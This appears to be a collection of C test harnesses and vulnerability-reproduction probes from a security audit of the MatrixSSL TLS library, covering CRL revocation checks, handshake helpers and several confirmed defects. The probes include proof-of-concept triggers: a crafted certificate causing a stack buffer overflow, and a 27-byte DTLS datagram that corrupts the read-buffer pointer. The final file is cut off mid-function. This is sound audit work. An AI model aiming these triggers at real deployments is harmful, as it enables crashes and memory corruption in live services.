    if (skeys)
    {
        matrixSslDeleteKeys(skeys);
    }
    if (ckeys)
    {
        matrixSslDeleteKeys(ckeys);
    }
    psCRL_DeleteAll();
    psX509FreeCert(ca);
}

/******************************************************************************/
int main(void)
{
    if (matrixSslOpen() < 0)
    {
        printf("matrixSslOpen failed\n");
        return 2;
    }

    /* Ordinary CRL (both times UTCTime): revoked cert rejected, good cert OK */
    direct_check("crl_utc (nextUpdate 2049, UTCTime)",
        crl_utc_der, sizeof(crl_utc_der),
        "leaf/serial 1000", leaf_der, sizeof(leaf_der), 1);
    direct_check("crl_utc (nextUpdate 2049, UTCTime)",
        crl_utc_der, sizeof(crl_utc_der),
        "good/serial 1001", good_der, sizeof(good_der), 0);

    /* Long-lived CRL: thisUpdate UTCTime, nextUpdate GeneralizedTime */
    direct_check("crl_long (nextUpdate 2059, GeneralizedTime)",
        crl_long_der, sizeof(crl_long_der),
        "leaf/serial 1000", leaf_der, sizeof(leaf_der), 1);
    direct_check("crl_long (nextUpdate 2059, GeneralizedTime)",
        crl_long_der, sizeof(crl_long_der),
        "good/serial 1001", good_der, sizeof(good_der), 0);

    handshake_check("crl_utc (nextUpdate 2049, UTCTime)",
        crl_utc_der, sizeof(crl_utc_der),
        "leaf/serial 1000", leaf_der, sizeof(leaf_der),
        leaf_key_der, sizeof(leaf_key_der), 1);
    handshake_check("crl_long (nextUpdate 2059, GeneralizedTime)",
        crl_long_der, sizeof(crl_long_der),
        "leaf/serial 1000", leaf_der, sizeof(leaf_der),
        leaf_key_der, sizeof(leaf_key_der), 1);
    handshake_check("crl_long (nextUpdate 2059, GeneralizedTime)",
        crl_long_der, sizeof(crl_long_der),
        "good/serial 1001", good_der, sizeof(good_der),
        good_key_der, sizeof(good_key_der), 0);

    matrixSslClose();

    if (g_harness_errors)
    {
        printf("RESULT: harness errors: %d (violations: %d)\n",
            g_harness_errors, g_violations);
        return g_violations ? 1 : 2;
    }
    if (g_violations)
    {
        printf("RESULT: property C03 VIOLATED (%d findings): a certificate "
            "revoked by an authenticated, application-loaded CRL was "
            "accepted\n", g_violations);
        return 1;
    }
    printf("RESULT: ok - revoked certificate rejected with both CRLs, "
        "non-revoked certificate accepted\n");
    return 0;
}
