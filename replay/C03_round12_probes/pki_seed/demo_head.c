/*
 * demo.c - C03 (X.509 validation / revocation) seed demo, round 12.
 *
 * Property clause exercised: "... and no certificate is revoked by an
 * authenticated CRL the application loaded."
 *
 * The application loads a trust anchor and a CRL issued and signed by that
 * anchor.  The CRL is authenticated with psX509AuthenticateCRL and put into
 * the library's CRL cache with psCRL_Update.  The CRL lists serial 0x1000,
 * the serial of the end-entity certificate "leaf".  Validation of "leaf"
 * must therefore fail with PS_CERT_AUTH_FAIL_REVOKED, both through
 * matrixValidateCerts and in a TLS 1.2 handshake where the server presents
 * "leaf" (the client must send certificate_revoked and never complete).
 *
 * Two CRLs with the same content are used:
 *   crl_utc   thisUpdate UTCTime 2026, nextUpdate UTCTime 2049
 *   crl_long  thisUpdate UTCTime 2026, nextUpdate GeneralizedTime 2059
 *             (RFC 5280 requires GeneralizedTime from 2050 on)
 * A third certificate "good" (serial 0x1001, not revoked) is the control for
 * the converse clause: it must validate while either CRL is loaded.
 *
 * exit 0: every check behaved as the property requires
 * exit 1: the property is violated (details are printed)
 * exit 2: the harness itself could not run
 *
 * The data below was generated with pki/ca.cnf and pki/mkdata.sh
 * (openssl 3.5); see NOTES.md.
 */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>

#include "matrixssl/matrixsslApi.h"

