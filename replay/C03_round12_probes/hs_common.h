/* Shared in-memory handshake helper for the side probes. */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>

#include "matrixssl/matrixsslImpl.h"

typedef struct
{
    ssl_t *ssl;
    int complete;
    int failed;
    int alertSent;
    int alertRcvd;
} side_t;

static unsigned char *readFile(const char *dir, const char *name, int32 *len)
{
    char path[1024];
    FILE *f;
    unsigned char *buf;
    long n;

    snprintf(path, sizeof(path), "%s/%s", dir, name);
    f = fopen(path, "rb");
    if (f == NULL)
    {
        printf("cannot open %s\n", path);
        exit(2);
    }
    fseek(f, 0, SEEK_END);
    n = ftell(f);
    fseek(f, 0, SEEK_SET);
    buf = malloc(n + 1);
    if (fread(buf, 1, n, f) != (size_t) n)
    {
        exit(2);
    }
    fclose(f);
    *len = (int32) n;
    return buf;
}

static int pump(side_t *from, side_t *to)
{
    unsigned char *out, *in, *pt;
    static unsigned char tmp[70000];
    int32 outLen, inLen, rc, off, n;
    uint32 ptLen;
    int moved = 0;

    while ((outLen = matrixSslGetOutdata(from->ssl, &out)) > 0)
    {
        if (outLen > (int32) sizeof(tmp))
        {
            outLen = sizeof(tmp);
        }
        memcpy(tmp, out, outLen);
        if (outLen >= 7 && tmp[0] == 21 && tmp[3] == 0 && tmp[4] == 2)
        {
            from->alertSent = tmp[6];
        }
        rc = matrixSslSentData(from->ssl, outLen);
        if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
        {
            from->complete = 1;
        }
        moved += outLen;
        off = 0;
        while (off < outLen && !to->failed)
        {
            inLen = matrixSslGetReadbuf(to->ssl, &in);
            if (inLen <= 0)
            {
                to->failed = 1;
                break;
            }
            n = outLen - off;
            if (n > inLen)
            {
                n = inLen;
            }
            memcpy(in, tmp + off, n);
            off += n;
            rc = matrixSslReceivedData(to->ssl, n, &pt, &ptLen);
            for (;; )
            {
                if (rc == MATRIXSSL_HANDSHAKE_COMPLETE)
                {
                    to->complete = 1;
                    break;
                }
                else if (rc == MATRIXSSL_RECEIVED_ALERT)
                {
                    if (ptLen >= 2)
                    {
                        to->alertRcvd = pt[1];
                    }
                    rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                    if (to->alertRcvd >= 0)
                    {
                        to->failed = 1;
                        break;
                    }
                    continue;
                }
                else if (rc == MATRIXSSL_APP_DATA)
                {
                    rc = matrixSslProcessedData(to->ssl, &pt, &ptLen);
                    continue;
                }
                else if (rc < 0)
                {
                    to->failed = 1;
                    break;
                }
                break;
            }
        }
    }
    return moved;
}

/* Runs a handshake; returns 1 when the client completed it. */
static int runHandshake(sslKeys_t *skeys, sslKeys_t *ckeys,
    psProtocolVersion_t ver, const char *expectedName, side_t *cOut,
    side_t *sOut)
{
    sslSessOpts_t sopts, copts;
    side_t s, c;
    int32 rc;
    int i;

    memset(&s, 0, sizeof(s));
    memset(&c, 0, sizeof(c));
    s.alertSent = s.alertRcvd = c.alertSent = c.alertRcvd = -1;
    memset(&sopts, 0, sizeof(sopts));
    memset(&copts, 0, sizeof(copts));
    matrixSslSessOptsSetServerTlsVersionRange(&sopts, ver, ver);
    matrixSslSessOptsSetClientTlsVersionRange(&copts, ver, ver);
    rc = matrixSslNewServerSession(&s.ssl, skeys, NULL, &sopts);
    if (rc < 0)
    {
        printf("  matrixSslNewServerSession: %d\n", (int) rc);
        exit(2);
    }
    rc = matrixSslNewClientSession(&c.ssl, ckeys, NULL, NULL, 0, NULL,
        expectedName, NULL, NULL, &copts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("  matrixSslNewClientSession refused: %d\n", (int) rc);
        matrixSslDeleteSession(s.ssl);
        return 0;
    }
    for (i = 0; i < 20; i++)
    {
        int moved = 0;
        moved += pump(&c, &s);
        moved += pump(&s, &c);
        if (moved == 0 || (c.complete && s.complete))
        {
            break;
        }
    }
    printf("  client: complete=%d failed=%d alertSent=%d alertRcvd=%d; "
        "server: complete=%d alertSent=%d alertRcvd=%d\n",
        c.complete, c.failed, c.alertSent, c.alertRcvd,
        s.complete, s.alertSent, s.alertRcvd);
    if (cOut)
    {
        *cOut = c;
    }
    if (sOut)
    {
        *sOut = s;
    }
    i = c.complete;
    matrixSslDeleteSession(s.ssl);
    matrixSslDeleteSession(c.ssl);
    return i;
}
