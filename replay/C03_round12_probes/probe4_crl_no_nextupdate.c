/*
 * Side probe 4 (unmodified code): a correctly signed CRL without the
 * OPTIONAL nextUpdate field parses and authenticates, but lcrl->nextUpdate
 * stays NULL.  The first validation of a certificate of that issuer calls
 * nextUpdateTest(curr->nextUpdate, ...) -> Strlen(NULL): crash (crl.c,
 * internalGetCrlForCert).  Not an acceptance defect - a denial of service on
 * the validation path, and it hides the revocation verdict.
 *
 * usage: probe4 <dir with ca.der leaf.der> <dir with crl_nonext.der>
 */
#include "hs_common.h"

int main(int argc, char **argv)
{
    unsigned char *ca, *leaf, *crlDer;
    int32 caLen, leafLen, crlLen, rc;
    psX509Cert_t *anchor = NULL, *subj = NULL, *found = NULL;
    psX509Crl_t *crl = NULL;

    if (argc < 3)
    {
        return 2;
    }
    ca = readFile(argv[1], "ca.der", &caLen);
    leaf = readFile(argv[1], "leaf.der", &leafLen);
    crlDer = readFile(argv[2], "crl_nonext.der", &crlLen);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    psX509ParseCert(NULL, ca, caLen, &anchor, 0);
    psX509ParseCert(NULL, leaf, leafLen, &subj, 0);
    rc = psX509ParseCRL(NULL, &crl, crlDer, crlLen);
    printf("psX509ParseCRL = %d nextUpdate=%p\n", (int) rc,
        crl ? (void *) crl->nextUpdate : NULL);
    if (rc < 0)
    {
        printf("RESULT: ok (CRL without nextUpdate is refused)\n");
        return 0;
    }
    rc = psX509AuthenticateCRL(anchor, crl, NULL);
    printf("psX509AuthenticateCRL = %d authenticated=%d\n", (int) rc,
        (int) crl->authenticated);
    psCRL_Update(crl, 1);
    printf("calling matrixValidateCerts(leaf, {ca}) ...\n");
    fflush(stdout);
    rc = matrixValidateCerts(NULL, subj, anchor, NULL, &found, NULL, NULL);
    printf("matrixValidateCerts = %d authStatus=%d revokedStatus=%d\n",
        (int) rc, (int) subj->authStatus, (int) subj->revokedStatus);
    printf("RESULT: returned\n");
    return 0;
}
