/*
 * Side probe 5 (unmodified code): an authenticated CRL whose nextUpdate has
 * passed still lists the leaf's serial, but psCRL_determineRevokedStatus
 * reports CRL_CHECK_CRL_EXPIRED and psX509AuthenticateCert only rejects
 * CRL_CHECK_REVOKED_AND_AUTHENTICATED: the revoked certificate validates.
 * Documented soft-fail behaviour; whether it violates "no certificate is
 * revoked by an authenticated CRL the application loaded" is a matter of
 * reading.  The `expired` mark on the cached CRL is also never cleared.
 *
 * usage: probe5 <dir with ca.der leaf.der> <dir with crl_expired.der>
 */
#include "hs_common.h"

int main(int argc, char **argv)
{
    unsigned char *ca, *leaf, *crlDer;
    int32 caLen, leafLen, crlLen, rc;
    psX509Cert_t *anchor = NULL, *subj = NULL, *found = NULL;
    psX509Crl_t *crl = NULL;

    if (argc < 3)
    {
        return 2;
    }
    ca = readFile(argv[1], "ca.der", &caLen);
    leaf = readFile(argv[1], "leaf.der", &leafLen);
    crlDer = readFile(argv[2], "crl_expired.der", &crlLen);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    psX509ParseCert(NULL, ca, caLen, &anchor, 0);
    psX509ParseCert(NULL, leaf, leafLen, &subj, 0);
    rc = psX509ParseCRL(NULL, &crl, crlDer, crlLen);
    if (rc < 0)
    {
        return 2;
    }
    rc = psX509AuthenticateCRL(anchor, crl, NULL);
    printf("psX509AuthenticateCRL = %d authenticated=%d\n", (int) rc,
        (int) crl->authenticated);
    psCRL_Update(crl, 1);
    rc = matrixValidateCerts(NULL, subj, anchor, NULL, &found, NULL, NULL);
    printf("matrixValidateCerts = %d authStatus=%d revokedStatus=%d\n",
        (int) rc, (int) subj->authStatus, (int) subj->revokedStatus);
    if (rc >= 0 && subj->authStatus == PS_CERT_AUTH_PASS)
    {
        printf("RESULT: revoked certificate accepted (CRL past nextUpdate)\n");
        return 1;
    }
    printf("RESULT: rejected\n");
    return 0;
}
