/*
 * Side probe 2 (unmodified code): psVerifySig dispatches on the ISSUER KEY
 * type only.  For a certificate whose signatureAlgorithm is Ed25519
 * psX509AuthenticateCert passes the whole TBSCertificate (tbsCertLen bytes,
 * msgIsDigestInfo = FALSE).  When the issuer key is RSA this reaches
 *     psRsaDecryptPub(pool, &key->key.rsa, sig, sigLen, out, msgInLen, NULL)
 * in crypto/pubkey/pubkey_verify.c with out[SHA512_HASH_SIZE] (64 bytes) on
 * the stack and outlen = tbsCertLen (hundreds of bytes).  pkcs1UnpadExt
 * (verifyUnpaddedLen = FALSE, no minimum padding length) then copies the
 * whole unpadded block - up to modulus size - 3 bytes chosen by whoever owns
 * the issuer key - into out[]: stack buffer overflow.
 *
 * The issuer may be a certificate from the peer's own chain: the chain is
 * authenticated pair by pair BEFORE any trust anchor is consulted, so this is
 * reachable by an unauthenticated peer (TLS 1.2 and 1.3, client and
 * client-auth server).
 *
 * edleaf.der: TBS/outer AlgorithmIdentifier = Ed25519, issuer = rogue (RSA
 *             2048), signature = rogue_priv(00 01 00 || 253 x 'A')
 *
 * usage: probe2 <dir with ca.der> <dir with rogue.der edleaf.der>
 * Expected on a sound library: validation fails cleanly (exit 0).
 * Observed: "stack smashing detected" abort / ASan stack-buffer-overflow.
 */
#include "hs_common.h"

int main(int argc, char **argv)
{
    unsigned char *ca, *rogue, *edleaf;
    int32 caLen, rogueLen, edLen, rc;
    psX509Cert_t *chain = NULL, *second = NULL, *anchor = NULL, *found = NULL;

    if (argc < 3)
    {
        return 2;
    }
    ca = readFile(argv[1], "ca.der", &caLen);
    rogue = readFile(argv[2], "rogue.der", &rogueLen);
    edleaf = readFile(argv[2], "edleaf.der", &edLen);
    if (matrixSslOpen() < 0)
    {
        return 2;
    }
    rc = psX509ParseCert(NULL, edleaf, edLen, &chain, 0);
    printf("parse edleaf: %d (sigAlgorithm=%d tbsCertLen=%d signatureLen=%d)\n",
        (int) rc, (int) chain->sigAlgorithm, (int) chain->tbsCertLen,
        (int) chain->signatureLen);
    if (rc < 0)
    {
        return 2;
    }
    psX509ParseCert(NULL, rogue, rogueLen, &second, 0);
    psX509ParseCert(NULL, ca, caLen, &anchor, 0);
    chain->next = second;
    printf("calling matrixValidateCerts([edleaf, rogue], {ca}) ...\n");
    fflush(stdout);
    rc = matrixValidateCerts(NULL, chain, anchor, NULL, &found, NULL, NULL);
    printf("matrixValidateCerts = %d authStatus edleaf=%d\n", (int) rc,
        (int) chain->authStatus);
    printf("RESULT: returned without a detected overflow\n");
    return 0;
}
