#include "harness.h"
#include "matrixssl/matrixssllib.h"
/* C08: one unauthenticated 27-byte datagram to a fresh DTLS server.  A ChangeCipherSpec record of a future epoch, followed
   in the same datagram by a record header of type handshake whose length field is 0xffff.  The "endgame" arm of
   matrixSslDecodeTls12AndBelow skips the presumed Finished record with `c += 11; rc = *c << 8 ...; c += rc; *buf = c`
   without comparing with `end`: the decoder reports 65548 bytes consumed out of 27, matrixSslReceivedData makes
   ssl->inlen negative, and the next matrixSslGetReadbuf hands the application a pointer 65535 bytes IN FRONT of the input
   buffer with room for 67035 bytes. */
int main(void)
{
    static const unsigned char dgram[27] = {
        0x14, 0xfe, 0xfd, 0x00, 0x01, 0, 0, 0, 0, 0, 0, 0x00, 0x01, 0x01,          /* CCS, epoch 1, 1 byte */
        0x16, 0xfe, 0xfd, 0x00, 0x01, 0, 0, 0, 0, 0, 1, 0xff, 0xff };               /* handshake record header, length 0xffff */
    hPeer s = {0};
    unsigned char *b0, *b1; int32 room0, room1, rc; unsigned char *pt; uint32 ptLen;
    if (h_new_server(&s, SSL_FLAGS_DTLS | SSL_FLAGS_TLS_1_2) < 0) return 2;
    room0 = matrixSslGetReadbuf(s.ssl, &b0);
    memcpy(b0, dgram, sizeof(dgram));
    rc = matrixSslReceivedData(s.ssl, sizeof(dgram), &pt, &ptLen);
    room1 = matrixSslGetReadbuf(s.ssl, &b1);
    printf("read buffer before: %p room %d; matrixSslReceivedData rc=%d inlen=%d; read buffer after: %p room %d (delta %ld)\n",
        (void *) b0, room0, rc, s.ssl->inlen, (void *) b1, room1, (long) (b1 - b0));
    if (b1 < s.ssl->inbuf || b1 > s.ssl->inbuf + s.ssl->insize || s.ssl->inlen < 0)
    {
        printf("RESULT VIOLATED (the application is told to receive %d bytes at an address outside the input buffer)\n", room1);
        return 1;
    }
    printf("RESULT ok\n");
    return 0;
}
