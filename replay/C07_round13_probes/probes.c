/*
 * Side-observation probes for C07 (behaviour of the UNMODIFIED library; the
 * seeded change in tls13TrHash.c has no influence on them).
 *
 *  P1  matrixSslSessOptsSetServerTlsVersions() called a second time on the
 *      same sslSessOpts_t does not forget the versions of the first call.
 *  P2  A TLS 1.2 server signs its ServerKeyExchange with an algorithm that is
 *      not in the list given to matrixSslSessOptsSetSigAlgs() for that
 *      server session.
 *
 * Prints CONFIRMED / not confirmed for each; exit status is the number of
 * confirmed observations.
 */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "matrixssl/matrixsslApi.h"

#include "testkeys/RSA/2048_RSA.h"
#include "testkeys/RSA/2048_RSA_KEY.h"
#include "testkeys/RSA/2048_RSA_CA.h"

typedef struct
{
    int fatal;
    int alertDesc;
    int appDataOk;
    int shVersion;      /* ServerHello.server_version */
    int skeSigAlg;      /* SignatureAndHashAlgorithm of the ServerKeyExchange */
} run_t;

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void) ssl; (void) cert; (void) alert;
    return 0;
}

/* Look at the plaintext handshake messages of a server flight */
static void inspectServerFlight(unsigned char *buf, size_t len, run_t *r)
{
    size_t off = 0;

    while (off + 5 <= len)
    {
        unsigned char *rec = buf + off, *m, *mEnd;
        size_t recLen = (rec[3] << 8) | rec[4];

        if (off + 5 + recLen > len)
        {
            break;
        }
        off += 5 + recLen;
        if (rec[0] == 20)
        {
            return; /* ChangeCipherSpec: everything after is encrypted */
        }
        if (rec[0] != 22)
        {
            continue;
        }
        m = rec + 5;
        mEnd = m + recLen;
        while (m + 4 <= mEnd)
        {
            size_t ml = (m[1] << 16) | (m[2] << 8) | m[3];
            unsigned char *b = m + 4;

            if (b + ml > mEnd)
            {
                break;
            }
            if (m[0] == 2 && ml >= 2)
            {
                r->shVersion = (b[0] << 8) | b[1];
            }
            if (m[0] == 12 && ml > 4 && b[0] == 3)
            {
                /* ECDHE: curve_type, named_curve, point<1..255>, sigalg */
                size_t pl = b[3];
                if (4 + pl + 2 <= ml)
                {
                    r->skeSigAlg = (b[4 + pl] << 8) | b[4 + pl + 1];
                }
            }
            m = b + ml;
        }
    }
}

static int pump(ssl_t *from, ssl_t *to, int fromClient, run_t *r)
{
    unsigned char *out, *in, *pt, *tmp;
    int32 len, rlen, rc, n, off, moved = 0;
    uint32 ptLen;

    while ((len = matrixSslGetOutdata(from, &out)) > 0)
    {
        tmp = malloc(len);
        memcpy(tmp, out, len);
        if (matrixSslSentData(from, len) < 0)
        {
            r->fatal = 1;
        }
        if (!fromClient)
        {
            inspectServerFlight(tmp, len, r);
        }
        moved += len;
        for (off = 0; off < len; off += n)
        {
            rlen = matrixSslGetReadbuf(to, &in);
            if (rlen <= 0)
            {
                r->fatal = 1;
                free(tmp);
                return moved;
            }
            n = (len - off) < rlen ? (len - off) : rlen;
            memcpy(in, tmp + off, n);
            rc = matrixSslReceivedData(to, n, &pt, &ptLen);
            for (;; )
            {
                if (rc == MATRIXSSL_APP_DATA ||
                    rc == MATRIXSSL_APP_DATA_COMPRESSED)
                {
                    if (ptLen == 4 && memcmp(pt, "ping", 4) == 0)
                    {
                        r->appDataOk = 1;
                    }
                    rc = matrixSslProcessedData(to, &pt, &ptLen);
                    continue;
                }
                if (rc == MATRIXSSL_RECEIVED_ALERT)
                {
                    if (ptLen == 2 && pt[0] == 2)
                    {
                        r->fatal = 1;
                        r->alertDesc = pt[1];
                    }
                    rc = matrixSslProcessedData(to, &pt, &ptLen);
                    continue;
                }
                break;
            }
            if (rc < 0)
            {
                r->fatal = 1;
                free(tmp);
                return moved;
            }
        }
        free(tmp);
        if (r->fatal)
        {
            break;
        }
    }
    return moved;
}

static int runHandshake(sslKeys_t *skeys, sslKeys_t *ckeys,
        sslSessOpts_t *sopts, sslSessOpts_t *copts,
        const psCipher16_t *suites, uint8_t nsuites, run_t *r)
{
    ssl_t *cl = NULL, *sv = NULL;
    int i, moved, ok = 0;
    int32 rc;

    memset(r, 0, sizeof(*r));
    if (matrixSslNewServerSession(&sv, skeys, NULL, sopts) < 0)
    {
        printf("  matrixSslNewServerSession failed\n");
        return -1;
    }
    rc = matrixSslNewClientSession(&cl, ckeys, NULL, suites, nsuites, certCb,
            NULL, NULL, NULL, copts);
    if (rc != MATRIXSSL_REQUEST_SEND)
    {
        printf("  matrixSslNewClientSession failed: %d\n", (int) rc);
        matrixSslDeleteSession(sv);
        return -1;
    }
    for (i = 0; i < 40 && !r->fatal; i++)
    {
        moved = pump(cl, sv, 1, r);
        if (!r->fatal)
        {
            moved += pump(sv, cl, 0, r);
        }
        if (moved == 0)
        {
            break;
        }
    }
    if (!r->fatal && matrixSslHandshakeIsComplete(cl) &&
        matrixSslHandshakeIsComplete(sv))
    {
        if (matrixSslEncodeToOutdata(cl, (unsigned char *) "ping", 4) > 0)
        {
            for (i = 0; i < 4 && !r->fatal && !r->appDataOk; i++)
            {
                pump(cl, sv, 1, r);
                pump(sv, cl, 0, r);
            }
        }
        ok = (!r->fatal && r->appDataOk);
    }
    matrixSslDeleteSession(cl);
    matrixSslDeleteSession(sv);
    return ok;
}

int main(void)
{
    sslKeys_t *skeys = NULL, *ckeys = NULL;
    sslSessOpts_t sopts, copts;
    psProtocolVersion_t v[2];
    uint16_t sa[1];
    psCipher16_t suite[1] = { 0xC02F }; /* ECDHE_RSA_WITH_AES_128_GCM_SHA256 */
    run_t r;
    int rc, confirmed = 0;

    if (matrixSslOpen() < 0 ||
        matrixSslNewKeys(&skeys, NULL) < 0 ||
        matrixSslNewKeys(&ckeys, NULL) < 0 ||
        matrixSslLoadRsaKeysMem(skeys, RSA2048, RSA2048_SIZE,
            RSA2048KEY, RSA2048KEY_SIZE, NULL, 0) < 0 ||
        matrixSslLoadRsaKeysMem(ckeys, NULL, 0, NULL, 0,
            RSA2048CA, RSA2048CA_SIZE) < 0)
    {
        printf("setup failed\n");
        return 0;
    }

    /* ---- P1 ---------------------------------------------------------- */
    printf("P1: server options: SetServerTlsVersions({1.1, 1.2}) and then, on "
           "the same\n    options, SetServerTlsVersions({1.3}); "
           "client enables TLS 1.2 only\n");
    memset(&sopts, 0, sizeof(sopts));
    memset(&copts, 0, sizeof(copts));
    v[0] = v_tls_1_1; v[1] = v_tls_1_2;
    rc = matrixSslSessOptsSetServerTlsVersions(&sopts, v, 2);
    v[0] = v_tls_1_3;
    rc |= matrixSslSessOptsSetServerTlsVersions(&sopts, v, 1);
    v[0] = v_tls_1_2;
    rc |= matrixSslSessOptsSetClientTlsVersions(&copts, v, 1);
    if (rc < 0)
    {
        printf("    option setup failed\n");
    }
    else
    {
        rc = runHandshake(skeys, ckeys, &sopts, &copts, NULL, 0, &r);
        printf("    handshake %s, ServerHello.server_version 0x%04x\n",
            rc == 1 ? "COMPLETED" : "failed", r.shVersion);
        if (rc == 1)
        {
            printf("    CONFIRMED: the server negotiated TLS 1.2 although its "
                   "last version list was {1.3}\n");
            confirmed++;
        }
        else
        {
            printf("    not confirmed (alert %d)\n", r.alertDesc);
        }
    }

    /* ---- P2 ---------------------------------------------------------- */
    printf("P2: TLS 1.2 server with SetSigAlgs({rsa_pkcs1_sha512}) only; "
           "client default\n    signature algorithms, ECDHE_RSA suite\n");
    memset(&sopts, 0, sizeof(sopts));
    memset(&copts, 0, sizeof(copts));
    v[0] = v_tls_1_2;
    sa[0] = 0x0601; /* rsa_pkcs1_sha512 */
    rc = matrixSslSessOptsSetServerTlsVersions(&sopts, v, 1);
    rc |= matrixSslSessOptsSetClientTlsVersions(&copts, v, 1);
    rc |= matrixSslSessOptsSetSigAlgs(&sopts, sa, 1);
    if (rc < 0)
    {
        printf("    option setup failed\n");
    }
    else
    {
        rc = runHandshake(skeys, ckeys, &sopts, &copts, suite, 1, &r);
        printf("    handshake %s, ServerKeyExchange signature algorithm "
               "0x%04x\n", rc == 1 ? "COMPLETED" : "failed", r.skeSigAlg);
        if (rc == 1 && r.skeSigAlg != 0 && r.skeSigAlg != 0x0601)
        {
            printf("    CONFIRMED: the server signed with 0x%04x, which its "
                   "own session options did not enable\n", r.skeSigAlg);
            confirmed++;
        }
        else
        {
            printf("    not confirmed (alert %d)\n", r.alertDesc);
        }
    }

    matrixSslDeleteKeys(skeys);
    matrixSslDeleteKeys(ckeys);
    matrixSslClose();
    return confirmed;
}
