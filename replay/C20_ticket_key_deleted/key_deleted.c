#include "harness.h"
#include "matrixssl/matrixssllib.h"
#include <signal.h>
#include <setjmp.h>
/* C20: session-ticket keys are shared by all sessions of a key set and may be deleted by another thread
   (matrixSslDeleteSessionTicketKey).  Schedule: thread 1 parses the ClientHello with the ticket extension (keys present,
   state RECVD_EXT); thread 2 deletes the last ticket key; thread 1 goes on to the NewSessionTicket flight.
   matrixCreateSessionTicket() reads ssl->keys->sessTickets->name without a NULL test.  The schedule is sequentially
   consistent, so it is replayed on one thread. */
static sigjmp_buf jb;
static void on_segv(int s) { (void) s; siglongjmp(jb, 1); }
int main(void)
{
    hPeer c = {0}, s = {0};
    static unsigned char wire[1 << 17];
    unsigned char name[16] = "ticketkeyname001", sym[32] = {1,2,3}, mac[32] = {4,5,6};
    sslSessOpts_t o;
    int n, i;
    h_server_keys(&s); h_client_keys(&c);
    if (matrixSslLoadSessionTicketKeys(s.keys, name, sym, 32, mac, 32) < 0) return 2;
    if (h_new_server(&s, SSL_FLAGS_TLS_1_2) < 0) return 2;
    memset(&o, 0, sizeof(o)); o.versionFlag = SSL_FLAGS_TLS_1_2; o.ticketResumption = 1;
    matrixSslNewSessionId(&c.sid, NULL);
    if (matrixSslNewClientSession(&c.ssl, c.keys, c.sid, NULL, 0, h_certCbAllowAll, NULL, NULL, NULL, &o) < 0) return 2;
    /* ClientHello -> server; ServerHello..Done -> client */
    n = h_drain(&c, wire, sizeof(wire)); h_feed(&s, wire, n);
    n = h_drain(&s, wire, sizeof(wire)); h_feed(&c, wire, n);
    printf("after the hello flights: server ticket state=%d\n", s.ssl->sid ? s.ssl->sid->sessionTicketState : -1);
    /* "thread 2": the application rotates its ticket keys */
    printf("matrixSslDeleteSessionTicketKey rc=%d, keys left=%d\n", matrixSslDeleteSessionTicketKey(s.keys, name),
        (int) matrixSslHaveSessionTicketKeys(s.keys));
    signal(SIGSEGV, on_segv);
    if (sigsetjmp(jb, 1))
    {
        printf("SIGSEGV inside the server while it answers the client's Finished (NewSessionTicket flight)\n");
        printf("RESULT VIOLATED (crash: NULL ticket key list dereferenced)\n");
        return 1;
    }
    /* ClientKeyExchange, CCS, Finished -> server: it now writes NewSessionTicket + CCS + Finished */
    n = h_drain(&c, wire, sizeof(wire));
    i = h_feed(&s, wire, n);
    printf("server after the client's Finished: rc=%d closed=%d\n", i, s.closed);
    n = h_drain(&s, wire, sizeof(wire)); if (n > 0) h_feed(&c, wire, n);
    printf("client hsDone=%d server hsDone=%d\n", c.hsDone, s.hsDone);
    printf("RESULT ok (no crash: %s)\n", s.closed ? "the server ended the handshake with an error" : "handshake went on");
    return 0;
}
