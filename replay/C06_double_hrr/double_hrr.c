/* Triage replay for C06 (found by a seeding sub-agent in the unmodified code; adapted from its exploration program):
   RFC 8446 4.1.4 - a client that receives a second HelloRetryRequest in the same connection MUST abort with
   unexpected_message.  Here the (malicious / misbehaving) server answers ClientHello2 with another HelloRetryRequest
   naming a different group (its group list is changed after the first one).
   exit 1: the client answered the second HRR with a third ClientHello and the handshake completed
   (CH, HRR, CH, HRR, CH, SH, ...) ; exit 0: the client aborted. */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include "matrixssl/matrixsslApi.h"
#include "matrixssl/matrixssllib.h"
#include "testkeys/EC/256_EC.h"
#include "testkeys/EC/256_EC_KEY.h"
#include "testkeys/EC/256_EC_CA.h"

static int32_t certCb(ssl_t *ssl, psX509Cert_t *cert, int32_t alert)
{
    (void)ssl; (void)cert;
    return alert;
}

static ssl_t *cln, *svr;
static sslKeys_t *ckeys, *skeys;

static const char *hsName(int t)
{
    switch (t) {
    case 1: return "ClientHello"; case 2: return "ServerHello"; case 4: return "NST";
    case 5: return "EOED"; case 8: return "EE"; case 11: return "Certificate";
    case 13: return "CertReq"; case 15: return "CertVerify"; case 20: return "Finished";
    }
    return "?";
}

static void dumpRecords(const char *who, unsigned char *b, int len)
{
    int off = 0;
    while (off + 5 <= len) {
        int t = b[off], l = (b[off+3] << 8) | b[off+4];
        printf("  %s record type %d len %d", who, t, l);
        if (t == 22 && off + 5 + 4 <= len) {
            printf(" hs=%s", hsName(b[off+5]));
            if (b[off+5] == 2 && l > 40 && !memcmp(b + off + 5 + 4 + 2, sha256OfHelloRetryRequest, 32))
                printf(" (HRR)");
        }
        if (t == 21 && l == 2) printf(" ALERT level %d desc %d", b[off+5], b[off+6]);
        printf("\n");
        off += 5 + l;
    }
}

typedef int (*hook_t)(int fromClient, unsigned char *buf, int len, int n);

/* move all pending output of 'from' into 'to'; returns last rc of ReceivedData */
static int xfer(ssl_t *from, ssl_t *to, int fromClient, hook_t hook, int *n)
{
    unsigned char *out, *in, *pt;
    uint32 ptLen;
    int32 outLen, inLen, rc = 0;
    int moved = 0;
    while ((outLen = matrixSslGetOutdata(from, &out)) > 0) {
        unsigned char tmp[20000];
        memcpy(tmp, out, outLen);
        dumpRecords(fromClient ? "C->S" : "S->C", tmp, outLen);
        matrixSslSentData(from, outLen);
        if (hook) outLen = hook(fromClient, tmp, outLen, (*n)++);
        int off = 0;
        while (off < outLen) {
            inLen = matrixSslGetReadbuf(to, &in);
            if (inLen <= 0) return -100;
            int c = outLen - off < inLen ? outLen - off : inLen;
            memcpy(in, tmp + off, c);
            off += c;
